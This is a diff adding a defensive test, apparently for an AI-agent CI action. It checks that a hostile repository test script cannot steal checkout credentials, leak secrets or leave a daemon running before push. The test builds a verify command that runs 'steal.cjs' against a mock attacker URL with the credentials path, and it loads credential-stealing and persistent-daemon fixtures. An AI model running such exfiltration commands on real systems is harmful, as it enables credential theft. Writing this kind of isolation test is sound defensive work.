@@ -196,3 +196,44 @@ describe('a hostile agent allowed to run npm test', () => {
     await killProcesses(path.join(world.checkout.workspace, 'daemon.cjs'))
   })
 })
+
+describe('a hostile npm test run by verify', () => {
+  itWhenIsolationIsPossible(
+    'runs as the agent’s user with the agent’s environment, reaches no credential, and what it left behind is gone before the push',
+    async () => {
+      attacker = await startAttacker()
+      const ws = () => world!.checkout.workspace
+      world = await createWorld({
+        files: {
+          'README.md': '# app\n',
+          'steal.cjs': readFileSync(path.join(HOSTILE, 'steal.cjs'), 'utf8'),
+          'daemon.cjs': readFileSync(path.join(HOSTILE, 'daemon.cjs'), 'utf8'),
+        },
+        // The agent itself only writes a file: the repository's own test is the hostile code.
+        script: ({ step }) => [writeFile(path.join(ws(), 'hello.txt'), 'hi\n'), say('Done.')][step],
+      })
+      const run = await world.run({
+        inputs: {
+          verify: `node steal.cjs ${attacker.url} ${world.checkout.credentialsPath}`,
+          fix_attempts: '0',
+        },
+        timeoutMs: 180_000,
+      })
+      const forms = secretForms(world)
+      const npmTest = attacker.received.find((entry) => entry.startsWith('POST /npm-test'))
+      expect(npmTest).toBeDefined()
+      // It ran as the agent's user, not as root, and found nothing.
+      expect(npmTest).toMatch(/checkout credentials file refused: E(NOENT|ACCES)/)
+      expect(npmTest).toContain('runner temp refused: EACCES')
+      expect(npmTest).toMatch(/write git config refused: E(ACCES|PERM)/)
+      expect(attacker.received.some((entry) => /daemon started as uid 0\b/.test(entry))).toBe(false)
+      expect(leaks(attacker.received.join('\n'), forms)).toEqual([])
+      const comments = world.emulator.state.comments(world.owner, world.repo, world.prNumber)
+      expect(leaks(comments.map((c) => c.body).join('\n'), forms)).toEqual([])
+      expect(run.outputs.verify_result).toBe('passed')
+      expect(run.outputs.conclusion).toBe('success')
+      // The daemon it left behind was killed before the push, and is gone.
+      expect(await processesRunning(path.join(world.checkout.workspace, 'daemon.cjs'))).toBe(0)
+    },
+  )
+})
